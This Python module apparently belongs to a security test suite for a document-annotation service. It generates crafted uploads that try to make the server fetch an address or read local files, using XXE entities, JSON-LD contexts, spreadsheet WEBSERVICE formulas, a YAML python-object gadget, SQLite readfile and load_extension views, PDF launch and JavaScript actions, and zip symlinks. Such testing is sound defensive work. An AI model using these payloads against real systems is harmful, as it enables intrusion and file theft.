"""Files that would have whoever reads them open something else: an address, or another file of this machine."""

import io
import json
import sqlite3
import stat
import zipfile
from collections.abc import Iterator, Mapping
from types import MappingProxyType
from typing import NamedTuple

import openpyxl
import pymupdf
from PIL import Image

SKOS = "http://www.w3.org/2004/02/skos/core#"


NONE: Mapping[str, str] = MappingProxyType({})


class Sent(NamedTuple):
    """A request to a project that sends a file, with parameters of its address."""

    name: str
    path: str
    """Below the project's address."""
    body: bytes
    query: Mapping[str, str] = NONE
    method: str = "POST"


def all_files(targets: list[str], document: str) -> Iterator[Sent]:
    """Requests for each of some addresses; what is uploaded for the first two is one batch, which is to be analysed."""
    for number, target in enumerate(targets):
        yield from _vocabularies(target)
        yield from _imports(target, document)
        yield from _sheets(target)
        yield from _pictures(target)
        if number < 2:
            yield from _uploads(target, number)


BATCH, LINKS = "ef" * 8, "ab" * 8
"""Uploads that are to be analysed, and zips with links, which are refused."""


def _vocabularies(target: str) -> Iterator[Sent]:
    term = {"@id": "http://x/1", f"{SKOS}prefLabel": "fer"}
    contexts = [
        {"@context": target, **term},
        {"@context": [{}, target], **term},
        {"@context": {"@import": target}, **term},
        {"@context": {"P": {"@id": "http://x/P", "@context": target}}, "@type": "P", **term},
        {"@graph": [{"@context": target, **term}]},
    ]
    files = {f"v{number}.jsonld": json.dumps(data) for number, data in enumerate(contexts)}
    for number, head in enumerate(_dtds("r", target)):
        files[f"d{number}.rdf"] = (
            f'{head}<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:s="{SKOS}">'
            f'<s:Concept r:about="http://x/1"><s:prefLabel>fer &e;</s:prefLabel></s:Concept></r:RDF>'
        )
    files["i.ttl"] = (
        f"@base <{target}> . @prefix o: <http://www.w3.org/2002/07/owl#> ."
        f' <> o:imports <{target}> . <#a> <{SKOS}prefLabel> "fer" .'
    )
    files["t.csv"] = f'label,uri\n"=WEBSERVICE(""{target}"")",{target}\n'
    for name, text in files.items():
        yield Sent(f"vocabulary {name}", "/vocabularies", text.encode(), {"name": name})


def _dtds(root: str, target: str) -> list[str]:
    return [
        f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "{target}">]>',
        f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{target}"> %p; <!ENTITY e "x">]>',
        f'<!DOCTYPE {root} SYSTEM "{target}">',
    ]


def _imports(target: str, document: str) -> Iterator[Sent]:
    def sent(format: str, name: str, body: bytes) -> Sent:
        return Sent(
            f"{format} {name}", "/imports", body, {"format": format, "name": name, "document": document}
        )

    svg = f'<!DOCTYPE svg [<!ENTITY e SYSTEM "{target}">]><svg><image href="{target}"/><path d="&e;"/></svg>'
    annotation = {
        "@context": target,
        "id": target,
        "type": "Annotation",
        "body": {"type": "TextualBody", "value": "x", "source": target},
        "target": {"source": target, "selector": {"type": "SvgSelector", "value": svg}},
    }
    yield sent("w3c", "a.json", json.dumps(annotation).encode())
    yield sent(
        "w3c", "b.json", json.dumps({"type": "AnnotationPage", "items": [target], "next": target}).encode()
    )
    include = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>'
    location = f'xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="http://x {target}"'
    roots = {
        "alto": "http://www.loc.gov/standards/alto/ns-v4#",
        "page": "http://schema.primaresearch.org/PAGE/gts/pagecontent/2019-07-15",
        "tei": "http://www.tei-c.org/ns/1.0",
    }
    for format, namespace in roots.items():
        root = {"alto": "alto", "page": "PcGts", "tei": "TEI"}[format]
        files = [f"{head}<{root} xmlns='{namespace}'>&e;</{root}>" for head in _dtds(root, target)]
        files.append(
            f'<?xml-stylesheet type="text/xsl" href="{target}"?>'
            f'<{root} xmlns="{namespace}" {location}>{include}<facsimile><graphic url="{target}"/></facsimile></{root}>'
        )
        for number, text in enumerate(files):
            yield sent(format, f"{number}.xml", text.encode())
    boxes = {"images": [{"id": 1, "file_name": target, "coco_url": target, "width": 9, "height": 9}]}
    yield sent("coco", "c.json", json.dumps(boxes | {"annotations": [], "categories": []}).encode())
    task = [{"data": {"image": target, "ocr": target}, "annotations": [{"result": []}]}]
    yield sent("label-studio", "l.json", json.dumps(task).encode())
    picture = {
        "image": {"uri": target, "mimetype": "image/png", "dpi": 72, "size": {"width": 1, "height": 1}}
    }
    pages = {"1": {"page_no": 1, "size": {"width": 1, "height": 1}, **picture}}
    docling = {
        "schema_name": "DoclingDocument",
        "name": "x",
        "pages": pages,
        "pictures": [picture],
        "$ref": target,
    }
    yield sent("docling", "d.json", json.dumps(docling).encode())
    yield sent("callico", "c.csv", f'id,image\n1,"=WEBSERVICE(""{target}"")"\n2,{target}\n'.encode())
    yield sent(
        "yolo",
        "y.zip",
        _zip({"data.yaml": f"path: {target}\nnames: !!python/object/apply:open [{target}]\n"}),
    )
    yield sent("arkindex", "a.sqlite", _database(target))


def _zip(files: Mapping[str, str | bytes], link: str | None = None) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
        if link is not None:
            member = zipfile.ZipInfo("link.png")
            member.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(member, link)
    return data.getvalue()


def _database(target: str) -> bytes:
    database = sqlite3.connect(":memory:")
    path = target.removeprefix("file://")
    for table in ("image", "element", "transcription", "element_path"):
        database.execute(f"CREATE TABLE {table} (id TEXT, url TEXT DEFAULT '{path}')")
        database.execute(
            f"CREATE VIEW v_{table} AS SELECT readfile('{path}'), load_extension('{path}') FROM {table}"
        )
    data = database.serialize()
    database.close()
    return data


def _sheets(target: str) -> Iterator[Sent]:
    yield Sent(
        "sheet csv", "/sheets/preview", f'title\n"=WEBSERVICE(""{target}"")"\n'.encode(), {"name": "s.csv"}
    )
    for number, head in enumerate(_dtds("sst", target)):
        data = io.BytesIO()
        book = openpyxl.Workbook()
        book.active["A1"] = f'=WEBSERVICE("{target}")'  # type: ignore[index]
        book.active["A2"].hyperlink = target  # type: ignore[index]
        book.save(data)
        changed = io.BytesIO()
        with zipfile.ZipFile(data) as old, zipfile.ZipFile(changed, "w") as new:
            for member in old.namelist():
                content = old.read(member)
                if member in ("xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"):
                    content = head.encode() + content.rpartition(b"?>")[2]
                new.writestr(member, content)
        yield Sent(f"sheet {number}", "/sheets/preview", changed.getvalue(), {"name": "s.xlsx"})


def _pictures(target: str) -> Iterator[Sent]:
    path = target.removeprefix("file://")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{target}"/><style>@import "{target}";</style></svg>'
    eps = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({path}) (r) file closefile\nshowpage\n"
    plain = io.BytesIO()
    Image.new("RGB", (64, 64), "white").save(plain, "JPEG", xmp=f'<x:xmpmeta xmlns:x="{target}"/>'.encode())
    for name, body in {"a.svg": svg.encode(), "a.eps": eps.encode(), "a.jpg": plain.getvalue()}.items():
        yield Sent(f"picture {name}", "/search/picture", body, {"name": name})


def _uploads(target: str, number: int) -> Iterator[Sent]:
    path = target.removeprefix("file://")
    uri, launch = f"<< /S /URI /URI ({target}) >>", f"<< /S /Launch /F ({path}) >>"
    script = f"<< /S /JavaScript /JS (app.launchURL('{target}')) >>"
    form = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]><x:xdp xmlns:x="http://ns.adobe.com/xdp/">&e;</x:xdp>'
    )
    reference = f"<< /F << /Type /Filespec /F ({path}) >> /Page 0 >>"
    for name, body in {
        "address": _pdf(
            target, {"F": f"<< /Type /Filespec /FS /URL /F ({target}) >>", "FFilter": "/FlateDecode"}
        ),
        "file": _pdf(target, {"F": f"({path})"}),
        "actions": _pdf(target, catalog={"OpenAction": uri, "AA": f"<< /WC {script} /WS {launch} >>"}),
        "base": _pdf(target, catalog={"URI": f"<< /Base ({target}) >>"}),
        "reference": _pdf(target, {"Ref": reference, "Alternates": f"[<< /Image << /F ({path}) >> >>]"}),
        "xfa": _pdf(target, xfa=form),
    }.items():
        yield Sent(f"upload {name}", f"/uploads/{BATCH}/{name}{number}.pdf", body, method="PUT")
    alto = f'<!DOCTYPE alto [<!ENTITY e SYSTEM "{target}">]><alto xmlns="http://www.loc.gov/standards/alto/ns-v4#">&e;</alto>'
    data = io.BytesIO()
    Image.new("L", (400, 600), 255).save(data, "PNG")
    scans = _zip({f"p{number}.png": data.getvalue(), f"p{number}.xml": alto})
    yield Sent("upload scans", f"/uploads/{BATCH}/scans{number}.zip", scans, method="PUT")
    link = _zip({"a.png": data.getvalue()}, link=path)
    yield Sent("upload link", f"/uploads/{LINKS}/link{number}.zip", link, method="PUT")


def _pdf(
    target: str, picture: Mapping[str, str] = {}, catalog: Mapping[str, str] = {}, xfa: str = ""
) -> bytes:
    """A page with words and a picture, with entries of its picture and of its catalogue."""
    with pymupdf.open() as pdf:
        page = pdf.new_page()
        page.insert_text((72, 700), f"Fig. 1. Amphora, see {target}")
        data = io.BytesIO()
        Image.new("L", (200, 200), 90).save(data, "PNG")
        xref = page.insert_image(pymupdf.Rect(72, 72, 300, 300), stream=data.getvalue())
        for key, value in picture.items():
            pdf.xref_set_key(xref, key, value)
        if xfa:
            number = pdf.get_new_xref()
            pdf.update_object(number, "<< >>")
            pdf.update_stream(number, xfa.encode())
            catalog = {**catalog, "AcroForm": f"<< /Fields [] /XFA {number} 0 R >>"}
        for key, value in catalog.items():
            pdf.xref_set_key(pdf.pdf_catalog(), key, value)
        saved: bytes = pdf.tobytes()
    return saved
